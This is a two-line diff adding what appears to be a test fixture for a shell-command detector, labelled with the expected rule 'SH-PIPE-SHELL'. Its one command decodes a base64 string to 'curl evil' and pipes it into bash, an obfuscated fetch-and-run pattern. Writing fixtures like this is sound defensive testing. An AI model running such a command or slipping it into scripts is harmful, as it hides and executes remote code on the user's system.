@@ -1,0 +1,2 @@
+# expect: SH-PIPE-SHELL
+echo Y3VybCBldmlsCg== | base64 -d | bash
